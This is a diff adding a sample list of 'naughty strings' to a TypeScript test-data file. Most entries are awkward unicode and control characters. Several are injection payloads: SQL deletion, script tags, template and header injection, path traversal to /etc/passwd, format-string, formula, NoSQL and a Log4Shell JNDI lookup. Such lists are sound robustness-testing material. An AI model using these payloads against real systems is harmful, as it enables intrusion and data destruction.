@@ -218,3 +218,44 @@ export const naughtyStrings: string[] = [
     "\u0301".repeat(90),
   ],
 ];
+
+/** One or two of each kind, of those that have gone wrong in different ways. */
+export const naughtySample: string[] = [
+  ...[
+    "undefined",
+    "9007199254740993",
+    "__proto__",
+    "\u00a0",
+    "\u200b",
+    "line\nline",
+    "\x85",
+    "\0",
+    "\x1b[31mred\x1b[0m",
+  ],
+  ...[
+    "\ud800",
+    "a\ud83d",
+    "\u{10ffff}",
+    "e\u0301",
+    "\u202egnp.exe",
+    "<script>alert(1)</script>",
+    "]]>",
+    "{{7*7}}",
+  ],
+  ...[
+    "'; DELETE FROM Account; --",
+    "%",
+    "a\r\nBcc: b@example.com",
+    "\r\n.\r\n",
+    "../../etc/passwd",
+    "%s%s%s%n",
+    "=1+1",
+  ],
+  ...[
+    "${jndi:ldap://x.example/a}",
+    "[link](javascript:alert(1))",
+    '{"$ne":null}',
+    "a".repeat(101),
+    "😀".repeat(51),
+  ],
+];
